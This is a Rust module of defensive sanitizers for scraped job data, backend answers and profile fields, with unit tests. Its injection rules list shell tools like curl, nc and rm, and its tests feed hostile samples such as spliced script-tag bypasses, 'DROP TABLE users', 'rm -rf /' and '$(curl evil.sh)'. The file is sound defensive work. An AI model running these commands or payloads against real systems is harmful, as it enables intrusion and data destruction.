//! Sanitizers for text that crosses a trust boundary: scraped page content,
//! backend answers and profile fields. Nothing here fails; unsafe input is
//! escaped, stripped or replaced with an empty value.

use regex::Regex;
use serde::Serialize;
use serde_json::{Map, Value};
use std::sync::LazyLock;
use url::Url;

/// Keys never copied while walking untrusted objects.
const FORBIDDEN_KEYS: &[&str] = &["__proto__", "constructor", "prototype"];

const MAX_FILENAME_LEN: usize = 255;
const DEFAULT_FILENAME: &str = "download";

static DANGEROUS_BLOCKS: LazyLock<Vec<Regex>> = LazyLock::new(|| {
    ["script", "iframe", "object", "embed"]
        .iter()
        .flat_map(|tag| {
            [
                format!(r"(?is)<{tag}\b[^>]*>.*?</{tag}\s*>"),
                // unterminated or self-closing leftovers
                format!(r"(?is)</?{tag}\b[^>]*>"),
            ]
        })
        .map(|pattern| Regex::new(&pattern).expect("static regex"))
        .collect()
});

static EVENT_HANDLER_RE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i)\s+on[a-z]+\s*=\s*("[^"]*"|'[^']*'|[^\s>]+)"#).expect("static regex")
});

static SCRIPT_URI_RE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i)(javascript\s*:|vbscript\s*:|data\s*:\s*text/html[^"'\s>]*)"#)
        .expect("static regex")
});

static ANY_TAG_RE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?s)</?[a-zA-Z][^>]*>").expect("static regex"));

static EMAIL_RE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"^[A-Za-z0-9._%+'-]+@[A-Za-z0-9.-]+\.[A-Za-z]{2,}$").expect("static regex")
});

static INJECTION_RULES: LazyLock<Vec<(Regex, &'static str)>> = LazyLock::new(|| {
    [
        (
            r"(?i)('|\b)\s*(or|and)\s+('?\d+'?\s*=\s*'?\d+|'[^']*'\s*=\s*'[^']*')",
            "SQL injection pattern detected",
        ),
        (
            r"(?i)\b(union\s+(all\s+)?select|drop\s+table|insert\s+into|delete\s+from|update\s+\w+\s+set)\b",
            "SQL injection pattern detected",
        ),
        (r"(--|/\*)\s*$|;\s*--", "SQL injection pattern detected"),
        (r"(?i)<\s*script\b|javascript\s*:|\bon[a-z]+\s*=", "Script injection pattern detected"),
        (r"(?i)<\s*(iframe|object|embed)\b", "Script injection pattern detected"),
        (
            r"(?i)(;|\||&&|`|\$\()\s*(rm|curl|wget|bash|sh|nc|cat|chmod|python|powershell)\b",
            "Command injection pattern detected",
        ),
    ]
    .into_iter()
    .map(|(pattern, reason)| (Regex::new(pattern).expect("static regex"), reason))
    .collect()
});

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct ValidationResult {
    pub valid: bool,
    pub reason: String,
}

pub fn escape_html(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#x27;"),
            '/' => out.push_str("&#x2F;"),
            _ => out.push(c),
        }
    }
    out
}

/// Escape a JSON value; anything other than a string becomes `""`.
pub fn escape_value(value: &Value) -> String {
    match value {
        Value::String(s) => escape_html(s),
        _ => String::new(),
    }
}

/// Remove active content from markup that has to stay markup.
///
/// Removing one construct can splice its neighbours into another
/// (`<scr<iframe></iframe>ipt>`), so the passes repeat until the text stops
/// changing. Every pass only deletes, which bounds the loop.
pub fn sanitize_html(html: &str) -> String {
    let mut out = html.to_string();
    loop {
        let before = out.len();
        for re in DANGEROUS_BLOCKS.iter() {
            out = re.replace_all(&out, "").into_owned();
        }
        out = EVENT_HANDLER_RE.replace_all(&out, "").into_owned();
        out = SCRIPT_URI_RE.replace_all(&out, "").into_owned();
        if out.len() == before {
            return out;
        }
    }
}

/// Plain-text form of an answer: active content and tags removed, control
/// characters dropped. Answers are written into form fields verbatim, so
/// they are stripped rather than entity-escaped.
pub fn sanitize_answer(text: &str) -> String {
    let stripped = sanitize_html(text);
    let stripped = ANY_TAG_RE.replace_all(&stripped, "");
    stripped
        .chars()
        .filter(|c| !c.is_control() || *c == '\n' || *c == '\t')
        .collect::<String>()
        .trim()
        .to_string()
}

/// Deep copy that never carries prototype-pollution keys.
pub fn safe_clone(value: &Value) -> Value {
    walk(value, &mut |_, leaf| leaf.clone())
}

/// Escape every string leaf of scraped job data, at any depth.
pub fn sanitize_job_data(value: &Value) -> Value {
    walk(value, &mut |_, leaf| Value::String(escape_value(leaf)))
}

/// Like [`sanitize_job_data`] but email and URL fields are validated instead
/// of escaped; invalid ones become `""`.
pub fn sanitize_user_profile(value: &Value) -> Value {
    walk(value, &mut |key, leaf| {
        let s = leaf.as_str().unwrap_or_default();
        let key = key.unwrap_or_default().to_lowercase();
        let cleaned = if key.contains("email") {
            sanitize_email(s)
        } else if key.contains("url") || key.contains("website") || key.contains("link") {
            sanitize_url(s)
        } else {
            escape_html(s)
        };
        Value::String(cleaned)
    })
}

/// Rebuild `value` with `leaf` applied to every string; other scalars are
/// copied as they are.
fn walk(value: &Value, leaf: &mut dyn FnMut(Option<&str>, &Value) -> Value) -> Value {
    walk_keyed(None, value, leaf)
}

fn walk_keyed(
    key: Option<&str>,
    value: &Value,
    leaf: &mut dyn FnMut(Option<&str>, &Value) -> Value,
) -> Value {
    match value {
        Value::String(_) => leaf(key, value),
        Value::Array(items) => {
            let mut out = Vec::with_capacity(items.len());
            for item in items {
                out.push(walk_keyed(key, item, leaf));
            }
            Value::Array(out)
        }
        Value::Object(map) => {
            let mut out = Map::with_capacity(map.len());
            for (k, v) in map {
                if FORBIDDEN_KEYS.contains(&k.as_str()) {
                    continue;
                }
                out.insert(k.clone(), walk_keyed(Some(k), v, leaf));
            }
            Value::Object(out)
        }
        other => other.clone(),
    }
}

pub fn sanitize_email(email: &str) -> String {
    let email = email.trim();
    if EMAIL_RE.is_match(email) {
        email.to_string()
    } else {
        String::new()
    }
}

/// Only absolute http(s) URLs survive.
pub fn sanitize_url(raw: &str) -> String {
    match Url::parse(raw.trim()) {
        Ok(url) if matches!(url.scheme(), "http" | "https") => url.to_string(),
        _ => String::new(),
    }
}

pub fn sanitize_filename(name: &str) -> String {
    let cleaned: String = name
        .chars()
        .filter(|c| !matches!(c, '/' | '\\' | '\0') && !c.is_control())
        .collect();
    let cleaned = cleaned.trim().trim_start_matches('.').trim();
    let truncated: String = cleaned.chars().take(MAX_FILENAME_LEN).collect();
    if truncated.is_empty() {
        DEFAULT_FILENAME.to_string()
    } else {
        truncated
    }
}

pub fn validate_input(text: &str) -> ValidationResult {
    for (re, reason) in INJECTION_RULES.iter() {
        if re.is_match(text) {
            return ValidationResult {
                valid: false,
                reason: reason.to_string(),
            };
        }
    }
    ValidationResult {
        valid: true,
        reason: String::new(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn test_escape_html_removes_markup_characters() {
        let escaped = escape_html("<script>alert('x')</script>");
        assert!(!escaped.contains('<'));
        assert!(!escaped.contains('>'));
        assert!(!escaped.contains('"'));
        assert!(!escaped.contains('\''));
        // every '&' starts an entity we produced
        assert_eq!(escaped.matches('&').count(), escaped.matches(';').count());
        assert_eq!(escape_html("Tom & \"Jerry\""), "Tom &amp; &quot;Jerry&quot;");
        assert_eq!(escape_html("a/b"), "a&#x2F;b");
    }

    #[test]
    fn test_escape_value_non_strings_are_empty() {
        assert_eq!(escape_value(&Value::Null), "");
        assert_eq!(escape_value(&json!(42)), "");
        assert_eq!(escape_value(&json!({"a": 1})), "");
        assert_eq!(escape_value(&json!("<b>")), "&lt;b&gt;");
    }

    #[test]
    fn test_sanitize_html_strips_active_content() {
        let html = r#"<p onclick="steal()">Hi</p><script>alert(1)</script><iframe src="x"></iframe>
            <a href="javascript:alert(1)">link</a><embed src="a.swf">
            <object data="data:text/html;base64,AAA"></object>"#;
        let clean = sanitize_html(html);
        let lower = clean.to_lowercase();
        let needles = [
            "<script",
            "<iframe",
            "<object",
            "<embed",
            "onclick",
            "javascript:",
            "data:text/html",
        ];
        for needle in needles {
            assert!(!lower.contains(needle), "{} survived in {}", needle, clean);
        }
        assert!(clean.contains("<p>Hi</p>"));
        assert!(clean.contains(">link</a>"));
    }

    #[test]
    fn test_sanitize_html_strips_spliced_content() {
        let spliced = [
            "<scr<iframe></iframe>ipt>alert(1)</scr<iframe></iframe>ipt>",
            "<scr<script>x</script>ipt>alert(1)</script>",
            "<ifr<embed src=a>ame src=evil></iframe>",
            "<SCR<object></object>IPT>alert(1)</SCRIPT >",
            "<img src=x o<script></script>nerror=alert(1)>",
            "<a href=\"java<iframe></iframe>script:alert(1)\">x</a>",
        ];
        for input in spliced {
            let lower = sanitize_html(input).to_lowercase();
            for needle in ["<script", "<iframe", "<embed", "onerror", "javascript:"] {
                assert!(!lower.contains(needle), "{} survived in {:?}", needle, lower);
            }
        }
        assert_eq!(
            sanitize_html("<scr<iframe></iframe>ipt>alert(1)</scr<iframe></iframe>ipt>"),
            ""
        );
        assert_eq!(sanitize_answer("<scr<embed>ipt>x()</scr<embed>ipt>Ten years"), "Ten years");
    }

    #[test]
    fn test_sanitize_answer_is_plain_text() {
        assert_eq!(
            sanitize_answer("  <b>Five</b> years<script>x()</script>\u{0}  "),
            "Five years"
        );
        assert_eq!(sanitize_answer("Line one\nLine two"), "Line one\nLine two");
        assert_eq!(sanitize_answer("R&D at A < B"), "R&D at A < B");
    }

    #[test]
    fn test_sanitize_job_data_nested() {
        let input = json!({
            "company": "<script>x</script>",
            "details": {"nested": {"value": "<iframe></iframe>"}},
            "tags": ["<embed>", 3, null],
        });
        let out = sanitize_job_data(&input);
        let text = out.to_string();
        assert!(!text.contains("<script>"));
        assert!(!text.contains("<iframe>"));
        assert!(!text.contains("<embed>"));
        assert_eq!(out["tags"][1], json!(3));
        assert_eq!(out["tags"][2], Value::Null);
    }

    #[test]
    fn test_prototype_keys_are_dropped() {
        let input: Value = serde_json::from_str(
            r#"{"__proto__": {"evil": true}, "normal": "value",
                "inner": {"constructor": {"prototype": 1}, "ok": "yes"}}"#,
        )
        .unwrap();
        let cloned = safe_clone(&input);
        assert_eq!(cloned["normal"], "value");
        assert!(cloned.get("__proto__").is_none());
        assert!(!cloned.to_string().contains("evil"));
        assert!(cloned["inner"].get("constructor").is_none());
        assert_eq!(cloned["inner"]["ok"], "yes");

        let sanitized = sanitize_job_data(&input);
        assert!(sanitized.get("__proto__").is_none());
    }

    #[test]
    fn test_sanitize_user_profile_validates_email_and_urls() {
        let profile = json!({
            "name": "Ana <b>",
            "email": "not-an-email",
            "backupEmail": "ana@example.com",
            "linkedinUrl": "javascript:alert(1)",
            "website": "https://ana.dev/",
            "history": [{"companyUrl": "ftp://x"}],
        });
        let out = sanitize_user_profile(&profile);
        assert_eq!(out["name"], "Ana &lt;b&gt;");
        assert_eq!(out["email"], "");
        assert_eq!(out["backupEmail"], "ana@example.com");
        assert_eq!(out["linkedinUrl"], "");
        assert_eq!(out["website"], "https://ana.dev/");
        assert_eq!(out["history"][0]["companyUrl"], "");
    }

    #[test]
    fn test_sanitize_filename() {
        assert_eq!(sanitize_filename("../../etc/passwd"), "etcpasswd");
        assert_eq!(sanitize_filename("..hidden\0.txt"), "hidden.txt");
        assert_eq!(sanitize_filename("C:\\Users\\resume.pdf"), "C:Usersresume.pdf");
        assert_eq!(sanitize_filename("..."), "download");
        assert_eq!(sanitize_filename(""), "download");
        assert_eq!(sanitize_filename(&"a".repeat(300)).len(), 255);
    }

    #[test]
    fn test_validate_input() {
        assert_eq!(
            validate_input("I have five years of Rust experience."),
            ValidationResult { valid: true, reason: String::new() }
        );
        assert!(!validate_input("' OR 1=1 --").valid);
        assert!(!validate_input("x'; DROP TABLE users; --").valid);
        assert!(!validate_input("<script>alert(1)</script>").valid);
        assert!(!validate_input("<img src=x onerror=alert(1)>").valid);
        assert!(!validate_input("name; rm -rf /").valid);
        assert!(!validate_input("$(curl evil.sh)").valid);
        assert!(validate_input("Portland, OR").valid);
        assert!(validate_input("Research & Development").valid);
        assert!(validate_input("Five years of C# and F#").valid);
    }
}
